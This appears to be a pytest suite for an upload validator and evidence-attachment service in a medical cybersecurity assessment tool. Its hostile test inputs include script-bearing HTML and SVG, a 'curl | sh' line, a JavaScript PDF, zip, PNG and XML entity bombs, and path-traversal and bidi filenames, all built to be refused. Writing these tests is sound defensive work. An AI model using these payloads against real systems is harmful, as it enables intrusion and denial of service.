"""Evidence files attached to answers: content sniffing of real and hostile files (pure), and the service
on the store (both databases): round trip, tenancy, closed assessments, limits, cascade, migration."""

from __future__ import annotations

import datetime as dt
import io
import json
import random
import struct
import zipfile
import zlib

import pytest
from sqlalchemy import inspect, select, text, update

from medcyber.maturity import evidence_files as ef
from medcyber.maturity.bank import load_bank
from medcyber.maturity.evidence_files import EvidenceFileError, check_file, sanitise_file_name, sniff
from medcyber.maturity.scoring import Answer
from medcyber.services import assessments as assess_svc
from medcyber.services import evidence
from medcyber.services.errors import ConflictError, NotFoundError, ServiceError
from medcyber.store import Store
from medcyber.store.models import Assessment, EvidenceAttachment, Organisation

# --- real files, made with the libraries the project uses -------------------------------------------------


@pytest.fixture(scope="module")
def pdf_bytes() -> bytes:
    from weasyprint import HTML

    return HTML(string="<h1>Penetration test</h1><p>Findings: none open.</p>").write_pdf()  # type: ignore[no-any-return]


@pytest.fixture(scope="module")
def docx_bytes() -> bytes:
    from docx import Document

    doc = Document()
    doc.add_heading("Secure development procedure", level=1)
    doc.add_paragraph("SOP-SEC-004, revision C. Threat modelling is done for every design change.")
    buf = io.BytesIO()
    doc.save(buf)
    return buf.getvalue()


@pytest.fixture(scope="module")
def xlsx_bytes() -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(["component", "version", "end of support"])
    ws.append(["openssl", "3.0.13", "2026-09-07"])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _image(fmt: str, size: tuple[int, int] = (64, 48)) -> bytes:
    from PIL import Image

    buf = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(buf, format=fmt)
    return buf.getvalue()


def _rezip(
    original: bytes, *, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None
) -> bytes:
    """A copy of a zip with some members replaced or added (deflated)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(original)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = (replace or {}).get(info.filename, src.read(info))
            dst.writestr(info.filename, data)
        for name, data in (add or {}).items():
            dst.writestr(name, data)
    return out.getvalue()


def _set_encrypted_flag(data: bytes, member: str) -> bytes:
    """Mark one member as encrypted in its local header and its central-directory entry."""
    buf = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        offset = zf.getinfo(member).header_offset
    assert buf[offset : offset + 4] == b"PK\x03\x04"
    buf[offset + 6] |= 0x01
    name = member.encode()
    pos = 0
    while (pos := buf.find(b"PK\x01\x02", pos)) != -1:
        (name_len,) = struct.unpack("<H", buf[pos + 28 : pos + 30])
        if bytes(buf[pos + 46 : pos + 46 + name_len]) == name:
            buf[pos + 8] |= 0x01
            break
        pos += 4
    else:
        raise AssertionError("central directory entry not found")
    return bytes(buf)


def _png_chunk(ctype: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload)) + ctype + payload + struct.pack(">I", zlib.crc32(ctype + payload))


# --- sniffing: accepted real files ------------------------------------------------------------------------


def test_real_office_pdf_and_image_files_are_recognised_by_content(
    pdf_bytes: bytes, docx_bytes: bytes, xlsx_bytes: bytes
) -> None:
    assert sniff(pdf_bytes, "pentest.pdf") == ef.PDF
    assert sniff(docx_bytes, "SOP-SEC-004.docx") == ef.DOCX
    assert sniff(xlsx_bytes, "eos-plan.xlsx") == ef.XLSX
    assert sniff(_image("PNG"), "screenshot.png") == ef.PNG
    assert sniff(_image("JPEG"), "whiteboard.JPG") == ef.JPEG
    # the content decides, not the name: a DOCX and an XLSX are told apart by their main part
    assert sniff(docx_bytes, "") == ef.DOCX and sniff(xlsx_bytes, "") == ef.XLSX


def test_text_types_are_utf8_and_the_extension_picks_the_text_flavour() -> None:
    csv_data = "question,status\nRM-01,done\nDC-02,naïve but done\n".encode()
    assert sniff(csv_data, "status.csv") == ef.CSV
    assert sniff(b"# Threat model\n\n- spoofing: mitigated\n", "tm.md") == ef.MARKDOWN
    assert sniff(b"build 42 passed\n", "ci.log") == ef.TEXT
    assert sniff('\ufeff{"tool": "trivy", "findings": []}'.encode(), "scan.json") == ef.JSON
    # JSON content in a .txt is still plain text; the name may only choose among text types
    assert sniff(b'{"a": 1}', "notes.txt") == ef.TEXT


def test_a_file_without_extension_gets_the_canonical_one_and_a_contradicting_one_is_refused(
    pdf_bytes: bytes,
) -> None:
    assert check_file(_image("PNG"), "scan").file_name == "scan.png"
    assert check_file(b"plain words\n", "README").file_name == "README.txt"
    with pytest.raises(
        EvidenceFileError, match=r"evidence\.exe: the content is a PDF but the name ends in '\.exe'"
    ):
        sniff(pdf_bytes, "evidence.exe")
    with pytest.raises(EvidenceFileError, match="PNG image but the name ends in '.txt'"):
        sniff(_image("PNG"), "notes.txt")
    with pytest.raises(EvidenceFileError, match="'.html' is not an accepted text extension"):
        sniff(b"just words\n", "page.html")


def test_check_file_reports_size_and_sha256(pdf_bytes: bytes) -> None:
    import hashlib

    checked = check_file(pdf_bytes, "report.pdf")
    assert checked.size == len(pdf_bytes) and checked.sha256 == hashlib.sha256(pdf_bytes).hexdigest()


# --- sniffing: hostile and broken input -------------------------------------------------------------------


def test_html_renamed_pdf_is_refused_naming_the_file_and_the_allowed_types() -> None:
    html = b"<!DOCTYPE html><html><body><script>fetch('/api/v1/x')</script></body></html>"
    with pytest.raises(EvidenceFileError) as err:
        sniff(html, "report.pdf")
    msg = str(err.value)
    assert msg.startswith("report.pdf: ") and "HTML" in msg and "PDF, PNG, JPEG, DOCX, XLSX" in msg
    # leading whitespace or a BOM does not hide it, nor does a harmless first line
    for data in (
        b"\n\n  <html><script>x</script>",
        b"\xef\xbb\xbf<html>",
        b"Report\n<script>alert(1)</script>",
    ):
        with pytest.raises(EvidenceFileError, match="HTML, SVG or XML"):
            sniff(data, "report.txt")


def test_svg_with_script_is_refused_whatever_its_name() -> None:
    svg = (
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
        b"<script>alert(document.cookie)</script></svg>"
    )
    for name in ("diagram.svg", "diagram.png", "diagram.md", "diagram"):
        with pytest.raises(EvidenceFileError, match="HTML, SVG or XML"):
            sniff(svg, name)


def test_executables_scripts_and_other_formats_are_refused() -> None:
    pe = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"This program"
    elf = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
    cases = {
        "setup.pdf": (pe, "Windows executable"),
        "tool.txt": (elf, "ELF executable"),
        "run.txt": (b"#!/bin/sh\ncurl http://x | sh\n", "script"),
        "anim.gif": (b"GIF89a\x01\x00\x01\x00\x80\x00\x00", "GIF image"),
        "old.doc": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, "OLE2"),
        "logs.txt": (b"\x1f\x8b\x08\x00" + b"\x00" * 20, "gzip"),
        "bin.dat": (bytes(range(256)), "NUL bytes"),
    }
    for name, (data, why) in cases.items():
        with pytest.raises(EvidenceFileError, match=why) as err:
            sniff(data, name)
        assert str(err.value).startswith(f"{name}: ")


def test_text_must_be_utf8_without_nul_and_json_must_parse() -> None:
    with pytest.raises(EvidenceFileError, match="not UTF-8 text"):
        sniff("Prüfbericht".encode("latin-1"), "bericht.txt")
    with pytest.raises(EvidenceFileError, match="UTF-16"):
        sniff("notes".encode("utf-16"), "notes.txt")
    with pytest.raises(EvidenceFileError, match="NUL"):
        sniff(b"a,b\n1,\x002\n", "data.csv")
    with pytest.raises(EvidenceFileError, match=r"scan\.json: not valid JSON \(line 1"):
        sniff(b'{"findings": [}', "scan.json")
    with pytest.raises(EvidenceFileError, match="NaN is not valid JSON"):
        sniff(b'{"score": NaN}', "scan.json")
    with pytest.raises(EvidenceFileError, match="not valid JSON"):
        sniff(b"[" * 100_000 + b"]" * 100_000, "deep.json")


def test_pdf_with_javascript_or_truncated_is_refused(pdf_bytes: bytes) -> None:
    from pypdf import PdfWriter
    from pypdf.actions import JavaScript

    writer = PdfWriter(clone_from=io.BytesIO(pdf_bytes))
    writer.add_open_action(JavaScript("app.alert('pwned')"))
    buf = io.BytesIO()
    writer.write(buf)
    with pytest.raises(EvidenceFileError, match="contains JavaScript"):
        sniff(buf.getvalue(), "report.pdf")

    writer = PdfWriter(clone_from=io.BytesIO(pdf_bytes))
    writer.add_attachment("payload.exe", b"MZ\x90\x00")
    buf = io.BytesIO()
    writer.write(buf)
    with pytest.raises(EvidenceFileError, match="embedded file"):
        sniff(buf.getvalue(), "report.pdf")

    # a name escaped with #xx does not slip through
    hand_made = (
        b"%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction << /S /J#61vaScript /JS (x) >> >> endobj\n%%EOF\n"
    )
    with pytest.raises(EvidenceFileError, match="JavaScript"):
        sniff(hand_made, "x.pdf")
    with pytest.raises(EvidenceFileError, match="no %%EOF"):
        sniff(pdf_bytes[: len(pdf_bytes) // 2], "cut.pdf")


def test_damaged_and_bomb_images_are_refused() -> None:
    png = _image("PNG")
    with pytest.raises(EvidenceFileError, match="truncated PNG"):
        sniff(png[: len(png) - 20], "cut.png")
    broken = bytearray(png)
    broken[20] ^= 0xFF  # inside IHDR: the checksum no longer matches
    with pytest.raises(EvidenceFileError, match="bad checksum"):
        sniff(bytes(broken), "bad.png")
    # a tiny PNG that claims 100000 x 100000 pixels (a decompression bomb for any viewer)
    ihdr = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
    bomb = (
        b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 1000))
    )
    bomb += _png_chunk(b"IEND", b"")
    with pytest.raises(EvidenceFileError, match="100000 x 100000 pixels"):
        sniff(bomb, "bomb.png")
    jpeg = _image("JPEG")
    with pytest.raises(EvidenceFileError, match="JPEG"):
        sniff(jpeg[:200], "cut.jpg")


def test_zip_bomb_disguised_as_docx_is_refused(docx_bytes: bytes) -> None:
    # one member that inflates ~1000 times
    bomb = _rezip(docx_bytes, add={"word/media/image1.png": b"\x00" * (40 * 1024 * 1024)})
    assert len(bomb) < ef.MAX_ATTACHMENT_BYTES
    with pytest.raises(EvidenceFileError, match=r"zip bomb"):
        sniff(bomb, "procedure.docx")
    # many members, each under the ratio cap, that together inflate past the total cap
    chunk = random.Random(7).randbytes(20_000) + b"\x00" * (2 * 1024 * 1024)  # ~100x compressible
    with zipfile.ZipFile(io.BytesIO(_rezip(docx_bytes, add={"m.bin": chunk}))) as zf:
        info = zf.getinfo("m.bin")
        assert info.file_size < ef.MAX_ZIP_RATIO * info.compress_size
    many = _rezip(docx_bytes, add={f"word/media/p{i}.bin": chunk for i in range(55)})
    assert len(many) < ef.MAX_ATTACHMENT_BYTES
    with pytest.raises(EvidenceFileError, match=r"would inflate to [\d,]+ bytes, over the limit"):
        sniff(many, "procedure.docx")


def test_encrypted_members_macros_and_fake_office_zips_are_refused(
    docx_bytes: bytes, xlsx_bytes: bytes
) -> None:
    locked = _set_encrypted_flag(docx_bytes, "word/document.xml")
    with pytest.raises(EvidenceFileError, match="'word/document.xml' is encrypted"):
        sniff(locked, "procedure.docx")

    with zipfile.ZipFile(io.BytesIO(xlsx_bytes)) as zf:
        ct = zf.read("[Content_Types].xml")
    xlsm_ct = ct.replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    assert xlsm_ct != ct
    with pytest.raises(EvidenceFileError, match="macro-enabled Excel workbook"):
        sniff(_rezip(xlsx_bytes, replace={"[Content_Types].xml": xlsm_ct}), "plan.xlsx")
    with pytest.raises(EvidenceFileError, match="macros"):
        sniff(_rezip(xlsx_bytes, add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\x00" * 64}), "plan.xlsx")
    with pytest.raises(EvidenceFileError, match="embedded OLE object"):
        sniff(_rezip(docx_bytes, add={"word/embeddings/oleObject1.bin": b"\x00" * 64}), "p.docx")

    plain_zip = io.BytesIO()
    with zipfile.ZipFile(plain_zip, "w") as zf:
        zf.writestr("payload.exe", b"MZ")
    with pytest.raises(EvidenceFileError, match=r"no \[Content_Types\]\.xml"):
        sniff(plain_zip.getvalue(), "evidence.docx")
    # the content types must name a main part that is really there
    hollow = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx_bytes)) as src, zipfile.ZipFile(hollow, "w") as dst:
        dst.writestr("[Content_Types].xml", src.read("[Content_Types].xml"))
    with pytest.raises(EvidenceFileError, match="main part /word/document.xml is missing"):
        sniff(hollow.getvalue(), "evidence.docx")
    # an XML entity bomb in [Content_Types].xml is not expanded
    lol = (
        b'<?xml version="1.0"?><!DOCTYPE t [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
        b"<Types>&b;</Types>"
    )
    with pytest.raises(EvidenceFileError, match="unreadable"):
        sniff(_rezip(docx_bytes, replace={"[Content_Types].xml": lol}), "evidence.docx")
    # a damaged member (CRC) is noticed
    damaged = bytearray(docx_bytes)
    with zipfile.ZipFile(io.BytesIO(docx_bytes)) as zf:
        info = zf.getinfo("word/document.xml")
    start = info.header_offset + 30 + len(info.filename) + len(info.extra) + 10
    damaged[start] ^= 0x55
    with pytest.raises(EvidenceFileError, match="zip archive"):
        sniff(bytes(damaged), "evidence.docx")


def test_size_limits_empty_and_one_byte_over_ten_mib() -> None:
    with pytest.raises(EvidenceFileError, match="empty.txt: the file is empty"):
        sniff(b"", "empty.txt")
    limit = ef.MAX_ATTACHMENT_BYTES
    assert limit == 10 * 1024 * 1024
    assert sniff(b"a" * limit, "big.txt") == ef.TEXT
    with pytest.raises(EvidenceFileError, match=r"10,485,761 bytes is over the limit of 10,485,760 bytes"):
        sniff(b"a" * (limit + 1), "big.txt")


def test_file_names_are_sanitised() -> None:
    assert sanitise_file_name("../../etc/passwd.txt") == "passwd.txt"
    assert sanitise_file_name("C:\\Users\\eve\\Desktop\\report.pdf") == "report.pdf"
    assert sanitise_file_name("invoice\u202egpj.exe") == "invoicegpj.exe"  # bidi override removed
    assert sanitise_file_name("a\x00b\r\nc\t.pdf") == "abc.pdf"
    assert sanitise_file_name(".htaccess") == "htaccess"
    assert sanitise_file_name("....") == "attachment" and sanitise_file_name("") == "attachment"
    assert sanitise_file_name('what?<is>"this".md') == "what__is__this_.md"
    assert sanitise_file_name("CON.txt") == "_CON.txt"
    long = sanitise_file_name("x" * 500 + ".pdf")
    assert len(long) == ef.MAX_FILE_NAME_CHARS and long.endswith("x.pdf")
    assert check_file(b"root:x:0:0\n", "../../etc/passwd.txt").file_name == "passwd.txt"


# --- the service on the store (SQLite and PostgreSQL) -------------------------------------------------------

Q1, Q2 = (q.id for q in load_bank().questions[:2])


def _open_assessment(session, name: str) -> Assessment:  # type: ignore[no-untyped-def]
    org = assess_svc.get_or_create_organisation(session, name)
    return assess_svc.start_assessment(session, org, assessed_on=dt.date(2026, 3, 1))


def _count(store: Store) -> int:
    with store.session() as session:
        return len(session.scalars(select(EvidenceAttachment.id)).all())


def test_round_trip_stores_sniffed_type_and_does_not_load_blobs_when_listing(
    store: Store, pdf_bytes: bytes, xlsx_bytes: bytes
) -> None:
    with store.session() as session:
        a = _open_assessment(session, "Evidence Co")
        first = evidence.add_attachment(
            session, a, Q1, "../../reports/Pentest 2026.pdf", pdf_bytes, uploaded_by="anna@evidence.example"
        )
        evidence.add_attachment(session, a, Q1, "eos-plan.xlsx", xlsx_bytes)
        evidence.add_attachment(session, a, Q2, "notes", b"Reviewed by the PSIRT on 2026-02-01.\n")
        aid, first_id = a.id, first.id
    with store.session() as session:
        a = assess_svc.get_assessment(session, aid)
        listed = evidence.list_attachments(session, a)
        assert [(x.question_id, x.file_name, x.media_type) for x in listed] == [
            (Q1, "Pentest 2026.pdf", ef.PDF),
            (Q1, "eos-plan.xlsx", ef.XLSX),
            (Q2, "notes.txt", ef.TEXT),
        ]
        assert all("content" in inspect(x).unloaded for x in listed)  # no blob loaded for a listing
        assert [x.file_name for x in evidence.list_attachments(session, a, Q2)] == ["notes.txt"]
        assert evidence.attachment_counts(session, a) == {Q1: 2, Q2: 1}
        att = evidence.get_attachment(session, a, first_id)
        assert evidence.attachment_bytes(att) == pdf_bytes
        assert att.size == len(pdf_bytes) and att.uploaded_by == "anna@evidence.example"
        assert isinstance(att.uploaded_at, dt.datetime)
        info = evidence.describe(att)
        assert info["media_type"] == ef.PDF and "content" not in info
        gone = evidence.delete_attachment(session, a, first_id)
        assert gone["file_name"] == "Pentest 2026.pdf"
        assert [x.file_name for x in a.attachments] == ["eos-plan.xlsx", "notes.txt"]
    with store.session() as session:
        a = assess_svc.get_assessment(session, aid)
        with pytest.raises(NotFoundError):
            evidence.get_attachment(session, a, first_id)
        assert len(evidence.list_attachments(session, a)) == 2


def test_another_assessments_attachment_is_not_found(store: Store) -> None:
    with store.session() as session:
        mine = _open_assessment(session, "Tenant A")
        theirs = _open_assessment(session, "Tenant B")
        secret = evidence.add_attachment(session, theirs, Q1, "secret.txt", b"B's unpatched list\n")
        mine_id, secret_id = mine.id, secret.id
    with store.session() as session:
        mine = assess_svc.get_assessment(session, mine_id)
        with pytest.raises(NotFoundError, match=f"no evidence file {secret_id} in assessment {mine_id}"):
            evidence.get_attachment(session, mine, secret_id)
        with pytest.raises(NotFoundError):
            evidence.delete_attachment(session, mine, secret_id)
        assert evidence.list_attachments(session, mine) == []
    assert _count(store) == 1


def test_refused_files_and_wrong_questions_store_nothing(store: Store) -> None:
    with store.session() as session:
        aid = _open_assessment(session, "Careful Co").id
    bad = [
        (Q1, "report.pdf", b"<html><script>alert(1)</script></html>", evidence.EvidenceError, "HTML"),
        (Q1, "big.txt", b"a" * (evidence.MAX_ATTACHMENT_BYTES + 1), evidence.EvidenceError, "over the limit"),
        (Q1, "empty.txt", b"", evidence.EvidenceError, "empty"),
        ("XX-99", "ok.txt", b"fine\n", NotFoundError, "no question 'XX-99'"),
    ]
    for qid, name, data, exc, msg in bad:
        with pytest.raises(exc, match=msg), store.session() as session:
            a = assess_svc.get_assessment(session, aid)
            evidence.add_attachment(session, a, qid, name, data)
    assert issubclass(evidence.EvidenceError, ServiceError)
    assert _count(store) == 0


def test_completed_assessment_refuses_new_and_deleted_evidence(store: Store) -> None:
    with store.session() as session:
        a = _open_assessment(session, "Done Co")
        att = evidence.add_attachment(session, a, Q1, "before.txt", b"attached while in progress\n")
        for q in load_bank().questions:
            assess_svc.save_answer(session, a, Answer(question_id=q.id, level=3))
        assess_svc.finish_assessment(session, a)
        aid, att_id = a.id, att.id
    with store.session() as session:
        a = assess_svc.get_assessment(session, aid)
        assert a.status == "complete"
        with pytest.raises(evidence.AssessmentClosedError, match="finished assessment"):
            evidence.add_attachment(session, a, Q1, "after.txt", b"too late\n")
        with pytest.raises(ConflictError, match="cannot delete"):
            evidence.delete_attachment(session, a, att_id)
    assert _count(store) == 1


def test_at_most_twenty_files_a_question_and_no_duplicates(store: Store) -> None:
    with store.session() as session:
        a = _open_assessment(session, "Busy Co")
        for i in range(evidence.MAX_ATTACHMENTS_PER_QUESTION):
            evidence.add_attachment(session, a, Q1, f"n{i}.txt", f"note {i}\n".encode())
        with pytest.raises(evidence.EvidenceError, match="already has 20 evidence files"):
            evidence.add_attachment(session, a, Q1, "n20.txt", b"note 20\n")
        evidence.add_attachment(session, a, Q2, "n20.txt", b"note 20\n")  # another question has room
        with pytest.raises(ConflictError, match="already attached to question .* as 'n20.txt'"):
            evidence.add_attachment(session, a, Q2, "copy.txt", b"note 20\n")
    assert _count(store) == 21


def test_deleting_the_assessment_or_organisation_deletes_its_files(store: Store, docx_bytes: bytes) -> None:
    with store.session() as session:
        a = _open_assessment(session, "Leaving Co")
        b = assess_svc.start_assessment(session, a.organisation, assessed_on=dt.date(2026, 4, 1))
        evidence.add_attachment(session, a, Q1, "sop.docx", docx_bytes)
        evidence.add_attachment(session, b, Q1, "sop.docx", docx_bytes)
        aid = a.id
    with store.session() as session:
        session.delete(session.get(Assessment, aid))
    assert _count(store) == 1
    with store.session() as session:
        session.delete(session.scalars(select(Organisation).where(Organisation.name == "Leaving Co")).one())
    assert _count(store) == 0


def test_damaged_stored_bytes_are_detected(store: Store) -> None:
    with store.session() as session:
        a = _open_assessment(session, "Bitrot Co")
        att_id, aid = evidence.add_attachment(session, a, Q1, "log.txt", b"original\n").id, a.id
    with store.session() as session:
        session.execute(
            update(EvidenceAttachment).where(EvidenceAttachment.id == att_id).values(content=b"tampered\n")
        )
    with store.session() as session:
        att = evidence.get_attachment(session, assess_svc.get_assessment(session, aid), att_id)
        with pytest.raises(ServiceError, match="damaged in the store"):
            evidence.attachment_bytes(att)


def test_migration_0007_matches_the_model_and_downgrades_and_upgrades(store: Store) -> None:
    from alembic.autogenerate import compare_metadata
    from alembic.runtime.migration import MigrationContext

    from medcyber.store.models import Base

    with store.engine.connect() as conn:
        diff = compare_metadata(MigrationContext.configure(conn), Base.metadata)
    assert [d for d in diff if "evidence_attachments" in repr(d)] == []
    with store.session() as session:
        a = _open_assessment(session, "Migrating Co")
        evidence.add_attachment(session, a, Q1, "x.json", json.dumps({"ok": True}).encode())
    store.downgrade("0006")
    assert "evidence_attachments" not in inspect(store.engine).get_table_names()
    assert "assessments" in inspect(store.engine).get_table_names()
    store.upgrade()
    assert store.current_revision() == store.head_revision()
    with store.engine.connect() as conn:
        assert conn.execute(text("SELECT count(*) FROM evidence_attachments")).scalar() == 0
    indexes = {ix["name"] for ix in inspect(store.engine).get_indexes("evidence_attachments")}
    assert "ix_evidence_attachments_assessment_id" in indexes
